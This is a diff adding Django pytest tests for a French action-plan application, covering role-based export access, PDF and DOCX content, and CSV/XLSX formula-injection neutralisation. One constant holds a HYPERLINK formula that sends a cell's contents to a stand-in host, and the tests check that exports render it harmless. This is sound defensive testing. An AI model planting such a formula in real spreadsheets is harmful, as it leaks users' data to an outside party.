@@ -13,7 +13,8 @@ from pypdf import PdfReader
 
 from conftest import ALL_VIEWERS
 from pvd.actions.selectors import maquette
-from pvd.actions.tests.factories import AxeFactory, FicheFactory, LigneFactory, OrganisationFactory
+from pvd.actions.tests.factories import AxeFactory, FicheFactory, LigneFactory, OrganisationFactory, make_piece
+from tests.utils import assert_refused
 
 pytestmark = pytest.mark.django_db
 CAN_VIEW = {"chef_de_projet", "equipe", "elu", "partenaire", "lecteur", "prefecture", "anct"}
@@ -209,3 +210,173 @@ def test_fiche_pdf_follows_state_branding(client_for, dossier, plan, settings, s
     text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
     assert ("RÉPUBLIQUE" in text.upper()) is state
     assert "Ma plateforme" in text
+
+
+@pytest.mark.parametrize("kind", ALL_VIEWERS)
+@pytest.mark.parametrize(
+    ("name", "params", "content_type"),
+    [
+        ("plan_xlsx", {}, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
+        ("plan_csv", {}, "text/csv; charset=utf-8"),
+        ("crte_export", {}, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
+        ("crte_export", {"format": "csv"}, "text/csv; charset=utf-8"),
+    ],
+)
+def test_plan_exports_per_viewer(client_for, dossier, kind, name, params, content_type):
+    FicheFactory(dossier=dossier, inscrite_crte=True)
+    response = client_for(dossier, kind).get(url(name, dossier), params)
+    if kind in CAN_VIEW:
+        assert response.status_code == 200 and response["Content-Type"] == content_type
+        assert response["Content-Disposition"].startswith("attachment;")
+    else:
+        assert_refused(response, kind)
+
+
+INJECTION = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'
+
+
+def test_xlsx_export_writes_text_never_formulas_and_reimports_identically(client_for, dossier):
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from pvd.actions.importer import import_plan
+    from pvd.actions.models import FicheAction
+    from pvd.actions.tests.factories import LigneFactory, OrganisationFactory
+
+    fiche = FicheFactory(dossier=dossier, titre=INJECTION, pilote="+33 6 00", description="@SUM(1)")
+    LigneFactory(fiche=fiche, financeur=OrganisationFactory(nom="=1+1"), montant=Decimal("5"))
+    client = client_for(dossier, "chef_de_projet")
+    for name in ("plan_xlsx", "crte_export", "maquette_xlsx"):
+        if name == "crte_export":
+            fiche.inscrite_crte = True
+            fiche.save()
+        content = client.get(url(name, dossier)).content
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        # Only the maquette's total rows are formulas (SUM), never a user's text.
+        assert all(f.startswith("SUM(") for xml in sheets for f in _formulas(xml)), name
+    content = client.get(url("plan_xlsx", dossier)).content
+    workbook = load_workbook(io.BytesIO(content))
+    cell = workbook["Fiches"]["B2"]
+    assert cell.value == INJECTION and cell.data_type == "s"
+    other = type(dossier).objects.get(pk=dossier.pk)
+    FicheAction.objects.all().delete()
+    fiches = import_plan(dossier=other, content=content, by=None)
+    assert [f.titre for f in fiches] == [INJECTION]
+    assert fiches[0].pilote == "+33 6 00" and fiches[0].description == "@SUM(1)"
+    assert fiches[0].financements.get().financeur.nom == "=1+1"
+
+
+def _formulas(xml: str) -> list[str]:
+    import re
+
+    return re.findall(r"<f>(.*?)</f>", xml)
+
+
+def test_csv_export_neutralises_formulas(client_for, dossier):
+    import csv
+    import io
+
+    FicheFactory(dossier=dossier, titre=INJECTION, pilote="+33 6 00", localisation="-1", cout_ht=Decimal("-0"))
+    raw = client_for(dossier, "lecteur").get(url("plan_csv", dossier)).content.decode("utf-8-sig")
+    header, row = list(csv.reader(io.StringIO(raw), delimiter=";"))
+    values = dict(zip(header, row, strict=True))
+    assert values["Titre"] == "'" + INJECTION
+    assert values["Pilote"] == "'+33 6 00"
+    assert not any(value[:1] in "=+@" for value in row if value)
+
+
+@pytest.fixture
+def full_fiche(dossier, media):
+    from pvd.actions.models import Note
+
+    fiche = FicheFactory(
+        dossier=dossier,
+        numero=4,
+        titre="Maison de santé",
+        confidentielle=True,
+        located=True,
+        cout_ht=Decimal("1000"),
+        cout_ttc=None,
+        priorite="moyenne",
+    )
+    LigneFactory(fiche=fiche, financeur=OrganisationFactory(nom="État"), montant=Decimal("250"), statut="accorde")
+    LigneFactory(fiche=fiche, financeur=OrganisationFactory(nom="Région"), montant=Decimal("500"), statut="refuse")
+    Note.objects.create(fiche=fiche, date=datetime.date(2025, 5, 2), texte="Réunion avec l'ARS faite")
+    make_piece(fiche)
+    return fiche
+
+
+def confidential_text():
+    """« Confidentielle (…) » in the model's words (the field's label), the documents' wording."""
+    from pvd.actions.models import FicheAction
+
+    label = str(FicheAction._meta.get_field("confidentielle").verbose_name)
+    return label[0].upper() + label[1:]
+
+
+def test_fiche_pdf_has_notes_pieces_confidentiality_and_point(client_for, dossier, full_fiche):
+    import io
+
+    from pypdf import PdfReader
+
+    response = client_for(dossier, "equipe").get(url("fiche_pdf", dossier, fiche_pk=full_fiche.pk))
+    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages).replace("\xa0", " ")
+    text = " ".join(text.split())
+    for expected in (
+        "Notes de suivi",
+        "02/05/2025",
+        "Réunion avec l'ARS faite",
+        "Pièces jointes",
+        "Plan du site",
+        confidential_text(),
+        "47,862° N, 5,333° E",
+        "Coût TTC non renseigné",
+    ):
+        assert expected in text, expected
+    assert "— €" not in text
+
+
+def test_fiche_pdf_priority_in_lower_case_mid_sentence(client_for, dossier, full_fiche, monkeypatch):
+    """The badges are upper-cased by the style sheet: read the HTML the PDF is made from."""
+    import weasyprint
+    from bs4 import BeautifulSoup
+
+    rendered = []
+
+    class FakeHTML:
+        def __init__(self, string):
+            rendered.append(string)
+
+        def write_pdf(self):
+            return b"%PDF-"
+
+    monkeypatch.setattr(weasyprint, "HTML", FakeHTML)
+    client_for(dossier, "equipe").get(url("fiche_pdf", dossier, fiche_pk=full_fiche.pk))
+    badges = [b.get_text() for b in BeautifulSoup(rendered[0], "html.parser").select(".badge")]
+    assert "Priorité moyenne" in badges
+
+
+def test_fiche_docx_has_notes_pieces_confidentiality_and_point(client_for, dossier, full_fiche):
+    import io
+
+    from docx import Document
+
+    response = client_for(dossier, "chef_de_projet").get(url("fiche_docx", dossier, fiche_pk=full_fiche.pk))
+    document = Document(io.BytesIO(response.content))
+    paragraphs = [p.text for p in document.paragraphs]
+    # The French separators are no-break spaces: compared here as plain spaces.
+    cells = {row.cells[0].text: row.cells[1].text.replace("\xa0", " ") for row in document.tables[0].rows}
+    assert cells["Confidentialité"] == confidential_text()
+    assert cells["Coût TTC"] == "non renseigné" and cells["Coût HT"] == "1 000,00 €"
+    financing = {
+        row.cells[0].text: [c.text.replace("\xa0", " ") for c in row.cells[1:]] for row in document.tables[1].rows
+    }
+    assert financing["État"] == ["DETR", "250,00 €", "Accordé", "25,00 %"]
+    assert financing["Région"] == ["DETR", "500,00 €", "Refusé", "—"]  # a refused line has no rate
+    assert cells["Coordonnées du point"] == "47,862° N, 5,333° E"
+    assert "02/05/2025 : Réunion avec l'ARS faite" in paragraphs
+    assert paragraphs[paragraphs.index("Pièces jointes") + 1].startswith("Plan du site (")
+    assert "Notes de suivi" in paragraphs
